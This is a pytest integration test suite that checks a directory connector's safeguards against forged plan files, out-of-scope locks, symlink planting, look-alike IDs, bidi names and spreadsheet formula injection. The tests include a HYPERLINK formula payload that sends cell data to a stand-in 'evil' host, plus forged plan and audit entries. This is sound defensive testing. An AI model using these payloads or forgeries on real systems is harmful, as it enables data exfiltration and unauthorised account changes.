"""Nothing bypasses the rules (SPEC §15), tried as an attacker and an unlucky operator
would, against a real slapd, every connector bound as its delegated identity: each
case compares whole-tree dumps before and after, not just exit codes."""

from __future__ import annotations

import json
import threading
import time
from pathlib import Path

import pytest

from connector.outputs.planfile import digest, plan_bytes
from connector.testing.delegation import Identity, install_delegation
from connector.testing.slapd import SlapdServer, sample_units
from tests.conftest import connector_env
from tests.helpers import LAYOUT, roster_csv, row, run_cli, tree

pytestmark = pytest.mark.integration


def env_for(server: SlapdServer, identity: Identity, tmp_path: Path, **extra: str) -> dict:
    return connector_env(server, tmp_path, CONNECTOR_LDAP__BIND_DN=identity.dn,
                         CONNECTOR_LDAP__BIND_PASSWORD=identity.password,
                         CONNECTOR_SCOPE=identity.scope, **extra)


@pytest.fixture
def delegated(slapd):
    return slapd, install_delegation(slapd, sample_units())


def bte(number: int, **extra: str) -> dict[str, str]:
    return row(f"BTE{number:04d}", unit_type="province", unit_code="BTE", **extra)


def forge(plan: Path, document: dict, audit: Path) -> None:
    """An attacker who can write both the plan file and the audit trail: the file is
    edited and a digest line that vouches for it appended. What still stops the edit
    is the per-action re-check (SPEC §15)."""
    data = plan_bytes(document)
    plan.write_bytes(data)
    line = {"ts": time.strftime("%Y-%m-%dT%H:%M:%S+00:00", time.gmtime()),
            "run_id": document["plan_id"], "actor": document["actor"],
            "scope": document["scope"], "action": "plan", "employee_id": None, "dn": None,
            "reason": str(plan), "clause": None, "changes": None, "member": None,
            "note": digest(data), "from_dn": None, "dry_run": False, "outcome": "ok",
            "error": None, "plan_id": document["plan_id"]}
    with audit.open("a", encoding="utf-8") as handle:
        handle.write(json.dumps(line) + "\n")


def ran(args: list[str], env: dict, *codes: int):
    result = run_cli(args, env)
    assert result.returncode in (codes or (0,)), result.stdout + result.stderr
    return result


def planned(env: dict, tmp_path: Path, name: str = "plan.json") -> tuple[Path, dict]:
    plan = tmp_path / name
    made = run_cli(["reconcile", "--dry-run", "--plan-out", str(plan)], env)
    assert made.returncode in (0, 1), made.stderr
    return plan, json.loads(plan.read_text(encoding="utf-8"))


def action(document: dict, kind: str, employee_id: str) -> dict:
    return next(a for a in document["actions"]
                if a["action"] == kind and a["employee_id"] == employee_id)


# -- case 1: apply runs the whole guard ------------------------------------------------


def test_apply_of_a_vanished_unit_s_pending_plan_needs_the_mass_lock_approval(delegated,
                                                                              tmp_path):
    server, identities = delegated
    env = env_for(server, identities["province:BTE"], tmp_path)
    roster = tmp_path / "roster.csv"
    staff = [bte(n) for n in range(1, 7)]
    others = [row("HCM0001", unit_type="province", unit_code="HCM")]
    roster.write_text(roster_csv(staff + others), encoding="utf-8")
    ran(["reconcile"], env)
    roster.write_text(roster_csv(others), encoding="utf-8")  # every BTE row lost
    before = tree(server)
    tripped = run_cli(["reconcile"], env)
    assert tripped.returncode == 3, tripped.stderr
    (pending,) = (tmp_path / "state").glob("pending-province-BTE-*.json")
    refused = run_cli(["apply", str(pending)], env)
    assert refused.returncode == 3 and "BTE" in refused.stdout, refused.stdout
    assert tree(server) == before
    approved = run_cli(["apply", str(pending), "--allow-mass-lock"], env)
    assert approved.returncode == 0, approved.stderr
    assert sum("pwdAccountLockedTime" in entry for entry in tree(server).values()) == 6


def test_forged_restore_locks_are_refused_or_counted_as_locks(delegated, tmp_path):
    server, identities = delegated
    env = env_for(server, identities["it-centre"], tmp_path, CONNECTOR_SAFETY__MAX_LOCK_COUNT="1")
    roster = tmp_path / "roster.csv"
    roster.write_text(roster_csv([row("TW1"), row("TW2"), row("TW3")]), encoding="utf-8")
    ran(["reconcile"], env)
    roster.write_text(roster_csv([row("TW1"), row("TW2"), row("TW3", "Tên Khác")]),
                      encoding="utf-8")
    plan, document = planned(env, tmp_path)
    template = action(document, "update", "TW3")
    forged = []
    for uid in ("TW1", "TW2"):
        forged.append({**template, "action": "lock", "employee_id": uid,
                       "dn": f"uid={uid},{LAYOUT.central_dn}", "reason": "violation",
                       "clause": "6.2.3", "changes": None, "restore": True,
                       "expect": {"exists": True, "locked": False}})
    before = tree(server)
    forge(plan, {**document, "actions": forged}, tmp_path / "audit.jsonl")
    refused = run_cli(["apply", str(plan)], env)
    assert refused.returncode == 2 and "restore" in refused.stderr, refused.stderr
    # the expectation forged too: the directory shows no record, so they are locks
    for item in forged:
        item["expect"] = {"exists": True, "locked": True, "lock_clause": "6.2.3",
                          "lock_reason": "violation",
                          "lock_values": ["bhxh-lock:6.2.3:violation"]}
    forge(plan, {**document, "plan_id": "20261207T000000-forged01", "actions": forged},
          tmp_path / "audit.jsonl")
    counted = run_cli(["apply", str(plan)], env)
    assert counted.returncode == 3 and "MAX_LOCK_COUNT" in counted.stdout, counted.stdout
    assert tree(server) == before


# -- case 2: a plan file is checked, not trusted ----------------------------------------


@pytest.fixture
def it_plan(delegated, tmp_path):
    server, identities = delegated
    env = env_for(server, identities["it-centre"], tmp_path)
    roster = tmp_path / "roster.csv"
    roster.write_text(roster_csv([row("TW1"), row("TW2")]), encoding="utf-8")
    ran(["reconcile"], env)
    roster.write_text(roster_csv([row("TW1", "Tên Mới"), row("TW2"), row("TW3")]),
                      encoding="utf-8")
    plan, document = planned(env, tmp_path)
    return server, env, plan, document


def _password(document: dict) -> list[dict]:
    update = action(document, "update", "TW1")
    return [{**update, "changes": {"userPassword": "Sup3r-secret-pw"}}]


def _lift_lock(document: dict) -> list[dict]:
    update = action(document, "update", "TW1")
    return [{**update, "changes": {"pwdAccountLockedTime": None, "description": None}}]


def _ghost(document: dict) -> list[dict]:
    create = action(document, "create", "TW3")
    dn = f"uid=GHOST1,{LAYOUT.people_dn('BTE')}"
    return [{**create, "employee_id": "GHOST1", "dn": dn,
             "changes": {**create["changes"], "uid": "GHOST1", "employeeNumber": "GHOST1"}}]


def _move(document: dict) -> list[dict]:
    update = action(document, "update", "TW1")
    return [{**update, "action": "move", "changes": None}]


def _misuse(document: dict) -> list[dict]:
    update = action(document, "update", "TW1")
    return [{**update, "action": "lock", "changes": None, "reason": "misuse",
             "clause": "6.3"}]


@pytest.mark.parametrize("edit,message", [
    (_password, "userPassword"), (_lift_lock, "pwdAccountLockedTime"),
    (_ghost, "outside"), (_move, "move"), (_misuse, "6.3"),
], ids=["userPassword", "lock-attributes", "ghost-in-a-province", "move", "misuse-lock"])
def test_an_edited_action_refuses_the_whole_plan_even_with_a_forged_digest(it_plan, tmp_path,
                                                                           edit, message):
    server, env, plan, document = it_plan
    actions = edit(document) + document["actions"]
    before = tree(server)
    forge(plan, {**document, "actions": actions}, tmp_path / "audit.jsonl")
    result = run_cli(["apply", str(plan), "--json"], env)
    assert result.returncode == 2 and message in result.stderr, result.stderr
    assert tree(server) == before
    assert "Sup3r-secret-pw" not in result.stdout + result.stderr
    assert "Sup3r-secret-pw" not in (tmp_path / "audit.jsonl").read_text().replace(
        plan.read_text(), "").split('"action": "plan"')[-1]


def test_a_province_plan_with_another_province_s_account_is_refused_whole(delegated,
                                                                          tmp_path):
    server, identities = delegated
    env = env_for(server, identities["province:BTE"], tmp_path)
    hcm_env = env_for(server, identities["province:HCM"], tmp_path)
    roster = tmp_path / "roster.csv"
    roster.write_text(roster_csv([bte(1), bte(2), row("HCM0001", unit_type="province",
                                                      unit_code="HCM")]), encoding="utf-8")
    ran(["reconcile"], env)
    ran(["reconcile"], hcm_env)
    roster.write_text(roster_csv([bte(1, status="violation"), bte(2),
                                  row("HCM0001", unit_type="province", unit_code="HCM")]),
                      encoding="utf-8")
    plan, document = planned(env, tmp_path)
    lock = action(document, "lock", "BTE0001")
    hcm = {**lock, "employee_id": "HCM0001",
           "dn": f"uid=HCM0001,{LAYOUT.people_dn('HCM')}"}
    before = tree(server)
    forge(plan, {**document, "actions": [*document["actions"], hcm]}, tmp_path / "audit.jsonl")
    result = run_cli(["apply", str(plan)], env)
    assert result.returncode == 2 and "HCM0001" in result.stderr, result.stderr
    assert tree(server) == before


def test_an_it_centre_plan_cannot_lift_a_province_s_own_lock(delegated, tmp_path):
    server, identities = delegated
    bte_env = env_for(server, identities["province:BTE"], tmp_path)
    it_env = env_for(server, identities["it-centre"], tmp_path)
    roster = tmp_path / "roster.csv"
    roster.write_text(roster_csv([row("TW1"), row("TW2", "Tên Khác"), bte(1)]),
                      encoding="utf-8")
    ran(["reconcile"], bte_env)
    roster.write_text(roster_csv([row("TW1"), row("TW2", "Tên Khác"),
                                  bte(1, status="unpaid_leave")]), encoding="utf-8")
    ran(["reconcile"], bte_env)
    ran(["reconcile"], it_env)
    roster.write_text(roster_csv([row("TW1"), row("TW2", "Tên Mới"), bte(1)]),
                      encoding="utf-8")
    plan, document = planned(it_env, tmp_path)
    record = next(line for line in tree(server)[f"dn: uid=bte0001,{LAYOUT.people_dn('BTE')}"
                                            .lower()].splitlines()
              if line.startswith("description: bhxh-lock:")).split(": ", 1)[1]
    unlock = {**document["actions"][0], "action": "unlock", "employee_id": "BTE0001",
              "dn": f"uid=BTE0001,{LAYOUT.people_dn('BTE')}", "reason": "returned",
              "clause": "6.2.1", "changes": None,
              "expect": {"exists": True, "locked": True, "lock_clause": "6.2.1",
                         "lock_reason": "leave", "lock_values": [record]}}
    before = tree(server)
    forge(plan, {**document, "actions": [unlock]}, tmp_path / "audit.jsonl")
    result = run_cli(["apply", str(plan)], it_env)
    assert result.returncode == 2 and "outside" in result.stderr, result.stderr
    assert tree(server) == before


# -- case 3: an unlock removes exactly the record it planned ----------------------------


def test_a_misuse_hold_placed_during_a_run_is_never_lifted_by_it(delegated, tmp_path):
    server, identities = delegated
    env = env_for(server, identities["it-centre"], tmp_path)
    roster = tmp_path / "roster.csv"
    roster.write_text(roster_csv([row("TW0003")]), encoding="utf-8")
    ran(["reconcile"], env)
    roster.write_text(roster_csv([row("TW0003", status="unpaid_leave")]), encoding="utf-8")
    ran(["reconcile"], env)
    many = [row(f"TW{n:05d}") for n in range(10000, 13000)]
    roster.write_text(roster_csv([row("TW0003"), *many]), encoding="utf-8")
    held: dict[str, object] = {}

    def hold() -> None:
        time.sleep(1.3)
        held["result"] = run_cli(["lock", "TW0003", "--reason", "misuse"], env)

    placer = threading.Thread(target=hold)
    placer.start()
    run = run_cli(["reconcile", "--json"], env)
    placer.join()
    assert held["result"].returncode == 0, held["result"].stderr
    entry = tree(server)[f"dn: uid=tw0003,{LAYOUT.central_dn}".lower()]
    records = [line for line in entry.splitlines() if line.startswith("description: bhxh-lock")]
    assert "pwdAccountLockedTime" in entry
    assert any(r.startswith("description: bhxh-lock:6.3:misuse") for r in records), entry
    unlock = [a for a in json.loads(run.stdout)["actions"] if a["action"] == "unlock"]
    assert len(unlock) == 1
    if unlock[0]["outcome"] == "failed":  # the hold landed in the window: reported
        assert "lock record changed" in unlock[0]["error"]


# -- case 4: lanes hold in manual commands ------------------------------------------------


def test_the_it_centre_cannot_lift_or_place_a_province_s_own_lock(delegated, tmp_path):
    server, identities = delegated
    bte_env = env_for(server, identities["province:BTE"], tmp_path)
    it_env = env_for(server, identities["it-centre"], tmp_path)
    roster = tmp_path / "roster.csv"
    roster.write_text(roster_csv([bte(1), bte(2)]), encoding="utf-8")
    ran(["reconcile"], bte_env)
    roster.write_text(roster_csv([bte(1, status="unpaid_leave"), bte(2)]), encoding="utf-8")
    ran(["reconcile"], bte_env)
    before = tree(server)
    unlock = run_cli(["unlock", "BTE0001"], it_env)
    assert unlock.returncode == 2 and "that province only" in unlock.stderr, unlock.stderr
    lock = run_cli(["lock", "BTE0002", "--reason", "violation"], it_env)
    assert lock.returncode == 2 and "misuse" in lock.stderr, lock.stderr
    assert tree(server) == before
    held = run_cli(["lock", "BTE0002", "--reason", "misuse"], it_env)  # Art. 6 §3
    assert held.returncode == 0, held.stderr
    assert run_cli(["unlock", "BTE0002"], bte_env).returncode == 2  # 6.3: IT Centre only
    assert run_cli(["unlock", "BTE0002"], it_env).returncode == 0
    assert run_cli(["unlock", "BTE0001"], bte_env).returncode == 0


def _records(server: SlapdServer, dn: str) -> list[str]:
    return sorted(line.split(": ", 1)[1].split(" ", 1)[0]
                  for line in tree(server)[f"dn: {dn}".lower()].splitlines()
                  if line.startswith("description: bhxh-lock:"))


def test_a_misuse_hold_on_a_province_lock_never_lifts_the_province_s_lock(delegated,
                                                                          tmp_path):
    """The IT Centre's 6.3 hold sits beside the province's 6.2.3 record: lifting the hold
    leaves the province's lock as it was."""
    server, identities = delegated
    bte_env = env_for(server, identities["province:BTE"], tmp_path)
    it_env = env_for(server, identities["it-centre"], tmp_path)
    roster = tmp_path / "roster.csv"
    roster.write_text(roster_csv([bte(1)]), encoding="utf-8")
    ran(["reconcile"], bte_env)
    ran(["lock", "BTE0001", "--reason", "violation"], bte_env)
    dn = f"uid=BTE0001,{LAYOUT.people_dn('BTE')}"
    ran(["lock", "BTE0001", "--reason", "misuse"], it_env)
    assert _records(server, dn) == ["bhxh-lock:6.2.3:violation", "bhxh-lock:6.3:misuse"]
    ran(["unlock", "BTE0001"], it_env)
    assert _records(server, dn) == ["bhxh-lock:6.2.3:violation"]
    assert "pwdAccountLockedTime" in tree(server)[f"dn: {dn}".lower()]
    ran(["reconcile"], bte_env)  # active on the roster, but 6.2.3 is sticky: held
    assert "pwdAccountLockedTime" in tree(server)[f"dn: {dn}".lower()]


# -- case 5: nothing reaches the directory that the audit does not show ------------------


def _five_people(tmp_path: Path) -> None:
    (tmp_path / "roster.csv").write_text(roster_csv([row(f"TW{n}") for n in range(1, 6)]),
                                         encoding="utf-8")


@pytest.mark.parametrize("where", ["directory", "device"])
def test_an_audit_log_that_cannot_take_lines_stops_the_run_before_any_change(
        delegated, tmp_path, where):
    server, identities = delegated
    target = tmp_path / "audit-dir" if where == "directory" else Path("/dev/full")
    target.mkdir(exist_ok=True) if where == "directory" else None
    env = env_for(server, identities["it-centre"], tmp_path, CONNECTOR_AUDIT__PATH=str(target))
    _five_people(tmp_path)
    before = tree(server)
    result = run_cli(["reconcile"], env)
    assert result.returncode == 2 and "audit log" in result.stderr, result.stderr
    assert tree(server) == before


def test_a_file_size_limit_stops_the_run_before_any_change_and_lines_stay_whole(delegated,
                                                                               tmp_path):
    import resource
    import subprocess
    import sys

    server, identities = delegated
    env = env_for(server, identities["it-centre"], tmp_path)
    audit = tmp_path / "audit.jsonl"
    audit.write_text('{"a": 1}\n' * 4600 + '{"half": "a line cut by an ear', encoding="utf-8")
    _five_people(tmp_path)
    before = tree(server)

    def limited() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (42 * 1024, resource.RLIM_INFINITY))

    full_env = {k: v for k, v in __import__("os").environ.items()
                if not k.startswith("CONNECTOR_")} | env
    result = subprocess.run([sys.executable, "-m", "connector", "reconcile"], env=full_env,
                            capture_output=True, text=True, preexec_fn=limited, check=False,
                            timeout=60)
    assert result.returncode == 2 and "ulimit -f" in result.stderr, result.stderr
    assert tree(server) == before
    ran(["reconcile"], env)  # no limit now: the half line is cut, every line is whole
    lines = audit.read_text(encoding="utf-8").splitlines()
    assert lines[4599] == '{"a": 1}' and all(json.loads(line) for line in lines)
    assert sum(json.loads(line).get("action") == "create" for line in lines) == 5


def _changes_in_the_directory(server: SlapdServer, renamed: str) -> set[tuple[str, str]]:
    found = set()
    for key, entry in tree(server).items():
        if not key.startswith("dn: uid=tw"):
            continue
        dn = key[4:]
        number = int(dn.split(",")[0][6:])
        if number > 1000:
            found.add(("create", dn))
        elif "pwdAccountLockedTime" in entry:
            found.add(("lock", dn))
        elif f"cn: {renamed}" in entry:
            found.add(("update", dn))
    return found


def _ok_lines(audit: Path, since: int) -> list[tuple[str, str]]:
    lines = audit.read_text(encoding="utf-8").splitlines()[since:]
    return [(x["action"], x["dn"].lower()) for x in map(json.loads, lines)
            if x["outcome"] == "ok" and not x["dry_run"] and x["action"] != "plan"]


def _lines_in(audit: Path) -> int:
    with audit.open("rb") as handle:
        return sum(chunk.count(b"\n") for chunk in iter(lambda: handle.read(1 << 20), b""))


@pytest.mark.parametrize("seed", [1, 2, 3])
def test_after_kill_9_at_any_point_every_change_has_its_audit_line(delegated, tmp_path, seed):
    """The property of SPEC §15: kill -9 at a random point of a 5,000-action run, then one
    more run: the set of changes in the directory equals the set of ``ok`` lines."""
    import os
    import random
    import signal
    import subprocess
    import sys

    server, identities = delegated
    env = env_for(server, identities["it-centre"], tmp_path)
    roster = tmp_path / "roster.csv"
    audit = tmp_path / "audit.jsonl"
    old = [row(f"TW{n:05d}") for n in range(1, 1001)]
    roster.write_text(roster_csv(old), encoding="utf-8")
    ran(["reconcile"], env)
    since = len(audit.read_text(encoding="utf-8").splitlines())
    renamed = "Ten Da Doi"  # ASCII: ldapsearch shows it as it is
    rows = [row(f"TW{n:05d}", status="terminated") for n in range(1, 501)]
    rows += [row(f"TW{n:05d}", renamed) for n in range(501, 1001)]
    rows += [row(f"TW{n:05d}") for n in range(1001, 5001)]
    roster.write_text(roster_csv(rows), encoding="utf-8")
    full_env = {k: v for k, v in os.environ.items() if not k.startswith("CONNECTOR_")} | env
    process = subprocess.Popen([sys.executable, "-m", "connector", "reconcile",
                                "--allow-mass-lock"], env=full_env,
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    # the kill lands after a random share of the run's audit lines, however fast the
    # machine (a fixed delay could fall after the end of the run on a fast disk)
    target = since + random.Random(seed).randint(1, 4500)
    while process.poll() is None and _lines_in(audit) < target:
        time.sleep(0.002)
    process.send_signal(signal.SIGKILL)
    process.wait()
    cut = _changes_in_the_directory(server, renamed)
    assert 0 < len(cut) < 5000, "the kill must land inside the apply"
    time.sleep(0.2)  # operations already on the wire when the process died
    finished = run_cli(["reconcile", "--allow-mass-lock"], env)
    assert finished.returncode == 0, finished.stdout + finished.stderr
    lines = _ok_lines(audit, since)
    assert len(lines) == len(set(lines)), "a change has two ok lines"
    assert set(lines) == _changes_in_the_directory(server, renamed)
    assert len(lines) == 5000
    assert not list((tmp_path / "state" / "journal").glob("*"))


# -- case 7: ids are what they look like --------------------------------------------------


def test_a_fullwidth_look_alike_id_never_locks_the_real_person(delegated, tmp_path):
    server, identities = delegated
    env = env_for(server, identities["province:BTE"], tmp_path)
    roster = tmp_path / "roster.csv"
    roster.write_text(roster_csv([bte(1), bte(2)]), encoding="utf-8")
    ran(["reconcile"], env)
    roster.write_text(roster_csv([bte(1), bte(2), row("BTE０００２", unit_type="province",
                                                      unit_code="BTE")]), encoding="utf-8")
    before = tree(server)
    for _ in range(2):  # every run
        result = run_cli(["reconcile", "--json"], env)
        assert result.returncode == 1, result.stdout + result.stderr  # one rejected row
        report = json.loads(result.stdout)
        assert report["actions"] == []
        (rejected,) = report["rejected"]
        assert "ASCII" in rejected["reason"]
        assert tree(server) == before


def test_a_name_with_bidi_controls_is_a_rejected_row(delegated, tmp_path):
    server, identities = delegated
    env = env_for(server, identities["it-centre"], tmp_path)
    (tmp_path / "roster.csv").write_text(roster_csv([row("TW1", "Nguyễn \u202eAn"), row("TW2")]),
                                         encoding="utf-8")
    result = run_cli(["reconcile", "--json"], env)
    assert result.returncode == 1
    report = json.loads(result.stdout)
    assert [a["employee_id"] for a in report["actions"]] == ["TW2"]
    assert "bidirectional" in report["rejected"][0]["reason"]


# -- case 8: reports carry no formulas ----------------------------------------------------


def test_a_formula_in_a_name_is_text_in_every_report(delegated, tmp_path):
    import zipfile

    from openpyxl import load_workbook

    server, identities = delegated
    env = env_for(server, identities["it-centre"], tmp_path)
    formula = '=HYPERLINK("http://evil/?"&A1,"x")'
    (tmp_path / "roster.csv").write_text(roster_csv([row("TW1", formula), row("TW2", "-1+2"),
                                                     row("TW3", "-")]), encoding="utf-8")
    for suffix in ("csv", "xlsx"):
        ran(["reconcile", "--dry-run", "--report", str(tmp_path / f"r.{suffix}")], env)
    text = (tmp_path / "r.csv").read_text(encoding="utf-8-sig")
    assert f"'{formula}".replace('"', '""') in text and "'-1+2" in text
    assert ",-," in text  # one character is no formula
    sheet = zipfile.ZipFile(tmp_path / "r.xlsx").read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    cells = [c for row_ in load_workbook(tmp_path / "r.xlsx")["actions"].iter_rows()
             for c in row_ if c.value in (formula, "-1+2")]
    assert len(cells) == 2 and all(c.data_type == "s" for c in cells)


# -- case 9: personal data stays private on disk -------------------------------------------


def test_every_file_the_product_writes_is_private_whatever_the_umask(delegated, tmp_path):
    import os
    import stat

    server, identities = delegated
    env = env_for(server, identities["it-centre"], tmp_path,
                  CONNECTOR_LOG__FILE=str(tmp_path / "logs" / "connector.log"),
                  CONNECTOR_STATE__DIR=str(tmp_path / "fresh" / "state"),
                  CONNECTOR_AUDIT__PATH=str(tmp_path / "audit" / "audit.jsonl"))
    _five_people(tmp_path)
    old = os.umask(0o000)  # the most permissive there is; the children inherit it
    try:
        ran(["reconcile", "--dry-run", "--plan-out", str(tmp_path / "out" / "plan.json"),
             "--report", str(tmp_path / "out" / "r.html")], env)
        ran(["reconcile"], env)
    finally:
        os.umask(old)
    files = [tmp_path / "logs" / "connector.log", tmp_path / "audit" / "audit.jsonl",
             tmp_path / "out" / "plan.json", tmp_path / "out" / "r.html",
             *(tmp_path / "fresh" / "state").iterdir()]
    assert len(files) >= 5
    for path in files:
        if path.is_file():
            assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    for folder in (tmp_path / "logs", tmp_path / "audit", tmp_path / "out",
                   tmp_path / "fresh" / "state"):
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700, folder


def test_a_link_planted_in_the_state_directory_is_never_followed(delegated, tmp_path):
    server, identities = delegated
    env = env_for(server, identities["it-centre"], tmp_path)
    _five_people(tmp_path)
    state = tmp_path / "state"
    state.mkdir(mode=0o700)
    victim = tmp_path / "victim.txt"
    victim.write_text("precious", encoding="utf-8")
    (state / "run-it-centre.lock").symlink_to(victim)
    before = tree(server)
    result = run_cli(["reconcile"], env)
    assert result.returncode == 2 and "link" in result.stderr, result.stderr
    assert victim.read_text(encoding="utf-8") == "precious"
    assert tree(server) == before


def test_the_daemon_s_status_is_written_through_a_fresh_name(tmp_path):
    from connector.app.daemon import _write_status, status_path
    from connector.settings import load_settings

    settings = load_settings(None, state={"dir": str(tmp_path / "state")})
    victim = tmp_path / "victim.txt"
    victim.write_text("precious", encoding="utf-8")
    status = status_path(settings)
    status.parent.mkdir(parents=True)
    status.with_suffix(".tmp").symlink_to(victim)
    _write_status(settings, {"runs": 1})
    assert victim.read_text(encoding="utf-8") == "precious"
    assert json.loads(status.read_text(encoding="utf-8")) == {"runs": 1}
    assert oct(status.stat().st_mode & 0o777) == "0o600"


def test_a_plan_written_by_a_real_run_counts_as_applied(delegated, tmp_path):
    server, identities = delegated
    env = env_for(server, identities["it-centre"], tmp_path)
    _five_people(tmp_path)
    plan = tmp_path / "plan.json"
    ran(["reconcile", "--plan-out", str(plan)], env)  # not a dry run: it applied it
    before = tree(server)
    again = run_cli(["apply", str(plan)], env)
    assert again.returncode == 2 and "already applied" in again.stderr, again.stderr
    assert tree(server) == before
